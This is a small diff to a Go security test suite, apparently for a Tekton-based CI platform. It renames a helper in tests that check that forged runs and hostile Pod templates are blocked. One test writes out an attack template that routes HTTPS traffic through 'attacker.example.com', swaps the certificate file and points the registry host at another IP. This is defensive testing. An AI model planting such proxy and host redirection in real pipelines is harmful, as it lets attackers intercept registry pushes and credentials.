@@ -77,7 +77,7 @@ func TestVictimGoesOn(t *testing.T) {
 // H5: what an author writes into the Pod template does not come between the push and the registry.
 func TestHolePodTemplate(t *testing.T) {
 	ctx := within(t, 2*time.Minute)
-	run := pushOnly(stage.Payments, stage.Payments.Repository)
+	run := stage.NewPush(stage.Payments, stage.Payments.Repository)
 	run.Spec.TaskRunTemplate.PodTemplate = &pipelinepod.Template{
 		Env:         []corev1.EnvVar{{Name: "HTTPS_PROXY", Value: "http://attacker.example.com"}, {Name: "SSL_CERT_FILE", Value: "/attacker"}},
 		HostAliases: []corev1.HostAlias{{IP: "10.0.0.1", Hostnames: []string{s.Quay.Host}}},
@@ -138,7 +138,7 @@ func TestHoleGuardedNamespace(t *testing.T) {
 	if _, err := s.Tekton.TektonV1beta1().CustomRuns(stage.Platform.Namespace).Create(ctx, forgery, metav1.CreateOptions{}); !apierrs.IsInvalid(err) {
 		t.Errorf("a CustomRun by hand: %v, want Invalid", err)
 	}
-	run := pushOnly(stage.Platform, stage.Payments.Repository)
+	run := stage.NewPush(stage.Platform, stage.Payments.Repository)
 	run.Labels = map[string]string{"apps.platform/team": "payments"}
 	if _, err := as(t, "system:serviceaccount:default:nobody").TektonV1().PipelineRuns(stage.Platform.Namespace).Create(ctx, run, metav1.CreateOptions{}); err == nil {
 		t.Error("another team's label was let in")
